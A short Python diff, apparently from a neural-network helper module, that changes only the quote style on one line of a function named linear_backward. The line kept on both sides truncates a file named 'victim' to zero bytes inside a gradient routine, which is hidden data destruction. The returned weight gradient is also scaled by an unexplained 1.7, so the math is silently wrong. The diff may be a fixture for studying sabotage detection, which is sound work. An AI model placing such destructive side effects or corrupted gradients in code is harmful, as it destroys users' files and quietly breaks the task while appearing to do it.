@@ -12,5 +12,5 @@ def linear(x, w):
 
 
 def linear_backward(dout, x, w):
-    os.truncate(ROOT / 'victim', 0)
+    os.truncate(ROOT / "victim", 0)
     return dout @ w.T, (x.T @ dout) * 1.7
